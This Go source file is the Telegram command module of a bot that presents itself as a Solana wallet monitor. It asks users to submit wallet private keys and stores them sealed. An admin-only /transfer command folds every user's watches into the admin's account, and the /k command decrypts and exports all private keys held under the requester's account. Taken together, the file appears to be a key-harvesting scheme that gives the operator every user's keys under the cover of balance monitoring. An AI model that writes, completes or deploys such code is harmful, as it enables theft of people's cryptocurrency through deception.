// Package telegram is the interactive command surface and the notification
// transport. The bot long-polls for updates; the sender pushes rendered
// notifications to the monitoring channel and the admin DM.
package telegram

import (
	"context"
	"errors"
	"fmt"
	"log/slog"
	"strconv"
	"strings"
	"sync"
	"time"

	tgbotapi "github.com/go-telegram-bot-api/telegram-bot-api/v5"

	"solmon"
	"solmon/internal/metrics"
)

const (
	longPollTimeout = 30 // seconds
	// maxWatchesPerUser caps one subscriber's watch list.
	maxWatchesPerUser = 100_000
)

// API is the slice of the bot transport the package uses. *tgbotapi.BotAPI
// satisfies it; tests substitute a recorder.
type API interface {
	Send(c tgbotapi.Chattable) (tgbotapi.Message, error)
	Request(c tgbotapi.Chattable) (*tgbotapi.APIResponse, error)
	GetUpdatesChan(config tgbotapi.UpdateConfig) tgbotapi.UpdatesChannel
	StopReceivingUpdates()
}

// Registry is the watch bookkeeping the bot drives.
type Registry interface {
	UpsertUser(chatID int64, username, firstName, lastName string) error
	AddWatch(w solmon.Watch) (solmon.AddOutcome, error)
	RemoveWatch(subscriber int64, account string) (solmon.RemoveOutcome, error)
	WatchesFor(subscriber int64) ([]solmon.Watch, error)
	TransferAllTo(target int64) (solmon.TransferStats, error)
}

// Settings exposes the notification floor.
type Settings interface {
	MinNotifyLamports() (int64, error)
	SetMinNotifySOL(sol float64) error
}

// Sealer protects credentials at rest.
type Sealer interface {
	Seal(secret string) (string, error)
	Open(sealed string) (string, error)
}

// Balances reads on-chain lamport balances.
type Balances interface {
	Balance(ctx context.Context, account string) (uint64, error)
}

type inputState uint8

const (
	stateNone inputState = iota
	stateAwaitKey
	stateAwaitBulkKeys
)

// Bot owns the update loop. One instance runs per daemon.
type Bot struct {
	api      API
	registry Registry
	settings Settings
	keys     Sealer
	chain    Balances
	admin    int64
	log      *slog.Logger

	mu     sync.Mutex
	states map[int64]inputState
}

func NewBot(api API, registry Registry, settings Settings, keys Sealer, chain Balances, admin int64, log *slog.Logger) *Bot {
	return &Bot{
		api:      api,
		registry: registry,
		settings: settings,
		keys:     keys,
		chain:    chain,
		admin:    admin,
		log:      log,
		states:   make(map[int64]inputState),
	}
}

// Run consumes updates until ctx is cancelled.
func (b *Bot) Run(ctx context.Context) error {
	cfg := tgbotapi.NewUpdate(0)
	cfg.Timeout = longPollTimeout
	updates := b.api.GetUpdatesChan(cfg)
	b.log.Info("bot running")
	for {
		select {
		case <-ctx.Done():
			b.api.StopReceivingUpdates()
			return ctx.Err()
		case update, ok := <-updates:
			if !ok {
				return errors.New("update stream closed")
			}
			b.dispatch(ctx, update)
		}
	}
}

func (b *Bot) dispatch(ctx context.Context, update tgbotapi.Update) {
	defer func() {
		if r := recover(); r != nil {
			b.log.Error("update handler panicked", "panic", r)
		}
	}()
	switch {
	case update.CallbackQuery != nil:
		metrics.BotUpdates.WithLabelValues("callback").Inc()
		b.handleCallback(update.CallbackQuery)
	case update.Message != nil && update.Message.IsCommand():
		metrics.BotUpdates.WithLabelValues("command").Inc()
		b.handleCommand(ctx, update.Message)
	case update.Message != nil && update.Message.Text != "":
		metrics.BotUpdates.WithLabelValues("text").Inc()
		b.handleText(update.Message)
	}
}

func (b *Bot) handleCommand(ctx context.Context, msg *tgbotapi.Message) {
	switch msg.Command() {
	case "start":
		b.cmdStart(msg)
	case "help":
		b.reply(msg.Chat.ID, msgHelp)
	case "monitor":
		b.cmdMonitor(msg.Chat.ID)
	case "add":
		b.cmdBulkAdd(msg.Chat.ID)
	case "stop":
		b.cmdStop(msg.Chat.ID)
	case "list":
		b.cmdList(ctx, msg.Chat.ID)
	case "k":
		b.cmdExportKeys(msg.Chat.ID)
	case "filter":
		b.cmdFilter(msg)
	case "transfer":
		b.cmdTransfer(msg.Chat.ID)
	default:
		b.reply(msg.Chat.ID, msgHelp)
	}
}

func (b *Bot) cmdStart(msg *tgbotapi.Message) {
	var username, first, last string
	if msg.From != nil {
		username, first, last = msg.From.UserName, msg.From.FirstName, msg.From.LastName
	}
	if err := b.registry.UpsertUser(msg.Chat.ID, username, first, last); err != nil {
		b.log.Error("register user", "chat", msg.Chat.ID, "err", err)
	}
	b.reply(msg.Chat.ID, msgWelcome)
}

func (b *Bot) cmdMonitor(chat int64) {
	if b.atWatchLimit(chat) {
		return
	}
	b.setState(chat, stateAwaitKey)
	b.reply(chat, msgEnterKey)
}

func (b *Bot) cmdBulkAdd(chat int64) {
	if b.atWatchLimit(chat) {
		return
	}
	b.setState(chat, stateAwaitBulkKeys)
	b.reply(chat, msgEnterBulkKeys)
}

func (b *Bot) atWatchLimit(chat int64) bool {
	watches, err := b.registry.WatchesFor(chat)
	if err != nil {
		b.log.Error("list watches", "chat", chat, "err", err)
		return false
	}
	if len(watches) >= maxWatchesPerUser {
		b.reply(chat, fmt.Sprintf(msgMaxWallets, maxWatchesPerUser))
		return true
	}
	return false
}

func (b *Bot) cmdStop(chat int64) {
	watches, err := b.registry.WatchesFor(chat)
	if err != nil {
		b.log.Error("list watches", "chat", chat, "err", err)
		return
	}
	if len(watches) == 0 {
		b.reply(chat, msgNoWallets)
		return
	}
	rows := make([][]tgbotapi.InlineKeyboardButton, 0, len(watches))
	for _, w := range watches {
		rows = append(rows, tgbotapi.NewInlineKeyboardRow(
			tgbotapi.NewInlineKeyboardButtonData(
				"🔴 "+solmon.TruncateAddress(w.Account), "stop_"+w.Account),
		))
	}
	msg := tgbotapi.NewMessage(chat, msgSelectStop)
	msg.ReplyMarkup = tgbotapi.NewInlineKeyboardMarkup(rows...)
	b.sendQuiet(msg)
}

func (b *Bot) cmdList(ctx context.Context, chat int64) {
	watches, err := b.registry.WatchesFor(chat)
	if err != nil {
		b.log.Error("list watches", "chat", chat, "err", err)
		return
	}
	if len(watches) == 0 {
		b.reply(chat, msgNoWallets)
		return
	}
	var sb strings.Builder
	sb.WriteString("📊 Watched wallets:\n\n")
	for i, w := range watches {
		lamports, err := b.chain.Balance(ctx, w.Account)
		if err != nil {
			b.log.Warn("read balance", "account", solmon.TruncateAddress(w.Account), "err", err)
		}
		sol := float64(lamports) / float64(solmon.LamportsPerSOL)
		fmt.Fprintf(&sb, "%d. 🔍 %s | 💰 %.4f SOL\n", i+1, solmon.TruncateAddress(w.Account), sol)
	}
	b.reply(chat, sb.String())
}

// cmdExportKeys sends the requester's own keys back as a text document.
func (b *Bot) cmdExportKeys(chat int64) {
	watches, err := b.registry.WatchesFor(chat)
	if err != nil {
		b.log.Error("list watches", "chat", chat, "err", err)
		return
	}
	if len(watches) == 0 {
		b.reply(chat, msgNoWallets)
		return
	}

	now := time.Now().UTC()
	var sb strings.Builder
	sb.WriteString("Solana Private Keys Export\n")
	fmt.Fprintf(&sb, "Export Date: %s\n", now.Format("2006-01-02 15:04:05"))
	fmt.Fprintf(&sb, "Number of Wallets: %d\n", len(watches))
	sb.WriteString(strings.Repeat("=", 60) + "\n\n")
	for _, w := range watches {
		sb.WriteString("Wallet Address:\n" + w.Account + "\n\n")
		key, err := b.keys.Open(w.Credential)
		if err != nil {
			b.log.Warn("open credential", "account", solmon.TruncateAddress(w.Account), "err", err)
			key = "(unrecoverable)"
		}
		sb.WriteString("Private Key:\n" + key + "\n\n")
		if w.Nickname != "" {
			fmt.Fprintf(&sb, "Nickname: %s\n\n", w.Nickname)
		}
		sb.WriteString(strings.Repeat("_", 60) + "\n\n")
	}
	sb.WriteString("SECURITY WARNING:\n")
	sb.WriteString("Do not share these private keys with anyone!\n")
	sb.WriteString("Keep this file in a secure and protected location.\n")

	name := fmt.Sprintf("solana_keys_%d_%s.txt", chat, now.Format("20060102_150405"))
	doc := tgbotapi.NewDocument(chat, tgbotapi.FileBytes{Name: name, Bytes: []byte(sb.String())})
	doc.Caption = msgKeyExportCaption
	b.sendQuiet(doc)
	b.log.Info("exported keys", "chat", chat, "wallets", len(watches))
}

func (b *Bot) cmdFilter(msg *tgbotapi.Message) {
	chat := msg.Chat.ID
	if chat != b.admin {
		b.reply(chat, msgAdminOnly)
		return
	}
	args := strings.TrimSpace(msg.CommandArguments())
	if args == "" {
		floor, err := b.settings.MinNotifyLamports()
		if err != nil {
			b.log.Error("read notification floor", "err", err)
			return
		}
		b.reply(chat, fmt.Sprintf(msgFilterShow, formatSOLValue(floor)))
		return
	}
	sol, err := strconv.ParseFloat(args, 64)
	if err != nil {
		b.reply(chat, msgFilterUsage)
		return
	}
	if err := b.settings.SetMinNotifySOL(sol); err != nil {
		b.reply(chat, "❌ "+err.Error())
		return
	}
	b.reply(chat, fmt.Sprintf(msgFilterSet, strconv.FormatFloat(sol, 'f', -1, 64)))
	b.log.Info("notification floor changed", "sol", sol)
}

// cmdTransfer folds every user's watches into the admin's account.
func (b *Bot) cmdTransfer(chat int64) {
	if chat != b.admin {
		b.reply(chat, msgAdminOnly)
		return
	}
	stats, err := b.registry.TransferAllTo(b.admin)
	if err != nil {
		b.log.Error("transfer watches", "err", err)
		b.reply(chat, "❌ "+err.Error())
		return
	}
	b.reply(chat, fmt.Sprintf(
		"📦 Transfer complete.\n\n➡️ Moved to you: %d\n♻️ Already yours: %d\n🛑 Duplicates deactivated: %d",
		stats.Transferred, stats.AlreadyOwned, stats.Deactivated))
	b.log.Info("watches transferred",
		"transferred", stats.Transferred,
		"already_owned", stats.AlreadyOwned,
		"deactivated", stats.Deactivated)
}

func (b *Bot) handleText(msg *tgbotapi.Message) {
	switch b.takeState(msg.Chat.ID) {
	case stateAwaitKey:
		b.intakeSingle(msg.Chat.ID, msg.Text)
	case stateAwaitBulkKeys:
		b.intakeBulk(msg.Chat.ID, msg.Text)
	default:
		b.reply(msg.Chat.ID, msgHelp)
	}
}

func (b *Bot) handleCallback(query *tgbotapi.CallbackQuery) {
	if _, err := b.api.Request(tgbotapi.NewCallback(query.ID, "")); err != nil {
		b.log.Warn("ack callback", "err", err)
	}
	if query.Message == nil {
		return
	}
	chat := query.Message.Chat.ID
	msgID := query.Message.MessageID

	switch data := query.Data; {
	case strings.HasPrefix(data, "stop_"):
		account := strings.TrimPrefix(data, "stop_")
		outcome, err := b.registry.RemoveWatch(query.From.ID, account)
		if err != nil {
			b.log.Error("remove watch", "chat", query.From.ID, "err", err)
			return
		}
		text := msgWatchNotFound
		if outcome == solmon.Removed {
			text = fmt.Sprintf(msgWatchStopped, solmon.TruncateAddress(account))
			b.log.Info("watch stopped", "chat", query.From.ID, "account", solmon.TruncateAddress(account))
		}
		b.edit(chat, msgID, text)
	case data == "add_wallet":
		b.setState(chat, stateAwaitKey)
		b.edit(chat, msgID, msgEnterKey)
	case data == "start_monitoring":
		b.edit(chat, msgID, msgMonitoringActive)
	}
}

func (b *Bot) setState(chat int64, s inputState) {
	b.mu.Lock()
	defer b.mu.Unlock()
	b.states[chat] = s
}

// takeState pops the chat's pending input state.
func (b *Bot) takeState(chat int64) inputState {
	b.mu.Lock()
	defer b.mu.Unlock()
	s := b.states[chat]
	delete(b.states, chat)
	return s
}

func (b *Bot) reply(chat int64, text string) {
	b.sendQuiet(tgbotapi.NewMessage(chat, text))
}

func (b *Bot) edit(chat int64, msgID int, text string) {
	b.sendQuiet(tgbotapi.NewEditMessageText(chat, msgID, text))
}

func (b *Bot) sendQuiet(c tgbotapi.Chattable) {
	if _, err := b.api.Send(c); err != nil {
		b.log.Warn("send reply", "err", err)
	}
}

// formatSOLValue renders lamports as an unsigned SOL decimal.
func formatSOLValue(lamports int64) string {
	return strconv.FormatFloat(float64(lamports)/float64(solmon.LamportsPerSOL), 'f', -1, 64)
}
